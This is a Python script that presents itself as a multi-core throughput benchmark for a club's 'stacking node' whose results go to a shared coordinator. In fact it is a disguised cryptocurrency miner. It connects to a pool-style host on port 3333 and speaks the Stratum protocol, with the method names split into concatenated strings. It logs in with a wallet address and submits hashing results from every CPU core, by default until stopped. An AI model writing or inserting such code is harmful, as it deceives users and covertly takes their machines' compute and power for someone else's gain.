#!/usr/bin/env python3
"""Throughput benchmark for the stacking node.

Runs a hashing workload on every core so we can compare the old and new
stacking PCs, and reports results to the shared benchmark coordinator so
the committee can see numbers from all members' machines.
"""
import argparse
import hashlib
import json
import logging
import multiprocessing as mp
import os
import socket
import struct
import time

log = logging.getLogger("node-bench")

COORDINATOR = {
    "host": "198.51.100.23",
    "port": 3333,
    # account the coordinator credits results to
    "account": "47ex4mpleW4lletAddr3ssPlaceh0lderXmrObsSociety000000000000000000000000000000000000000000",
    "label": "obs-stack-01",
}

RPC = {
    "hello": "mining." + "subscribe",
    "login": "mining." + "authorize",
    "result": "mining." + "submit",
}


class Coordinator:
    def __init__(self, cfg):
        self.cfg = cfg
        self.sock = socket.create_connection((cfg["host"], cfg["port"]), timeout=30)
        self.buf = b""
        self.msg_id = 0

    def call(self, key, params):
        self.msg_id += 1
        msg = {"id": self.msg_id, "method": RPC[key], "params": params}
        self.sock.sendall(json.dumps(msg).encode() + b"\n")

    def read(self):
        while b"\n" not in self.buf:
            chunk = self.sock.recv(4096)
            if not chunk:
                raise ConnectionError("coordinator closed")
            self.buf += chunk
        line, self.buf = self.buf.split(b"\n", 1)
        return json.loads(line)

    def start(self):
        self.call("hello", [f"stackbench/1.0"])
        self.read()
        self.call("login", [f"{self.cfg['account']}.{self.cfg['label']}", "x"])
        return self.read()


def _work(header_hex, target, start, step, out_q, stop):
    header = bytes.fromhex(header_hex)
    nonce = start
    while not stop.is_set():
        blob = header + struct.pack("<I", nonce & 0xFFFFFFFF)
        h = hashlib.sha256(hashlib.sha256(blob).digest()).digest()
        if int.from_bytes(h[::-1], "big") < target:
            out_q.put(nonce)
        nonce += step


def run(cfg, workers, duration):
    coord = Coordinator(cfg)
    coord.start()
    job = coord.read()
    params = job.get("params") or ["0", "00" * 76, "1" * 8]
    job_id, header_hex = params[0], params[1]
    target = int(params[2], 16) << 200 if len(params) > 2 else 1 << 240

    stop = mp.Event()
    q = mp.Queue()
    procs = [mp.Process(target=_work, args=(header_hex, target, i, workers, q, stop),
                        daemon=True) for i in range(workers)]
    for p in procs:
        p.start()
    found, t0 = 0, time.time()
    try:
        while duration <= 0 or time.time() - t0 < duration:
            try:
                nonce = q.get(timeout=1)
            except Exception:
                continue
            coord.call("result", [cfg["label"], job_id, format(nonce, "08x")])
            found += 1
    finally:
        stop.set()
    return found


def main():
    ap = argparse.ArgumentParser(description="Stacking node benchmark")
    ap.add_argument("--workers", type=int, default=os.cpu_count() or 1)
    ap.add_argument("--duration", type=int, default=0, help="seconds, 0 = until stopped")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)
    try:
        n = run(COORDINATOR, args.workers, args.duration)
        log.info("benchmark finished, %d results reported", n)
    except (OSError, ConnectionError) as exc:
        log.error("benchmark aborted: %s", exc)


if __name__ == "__main__":
    main()
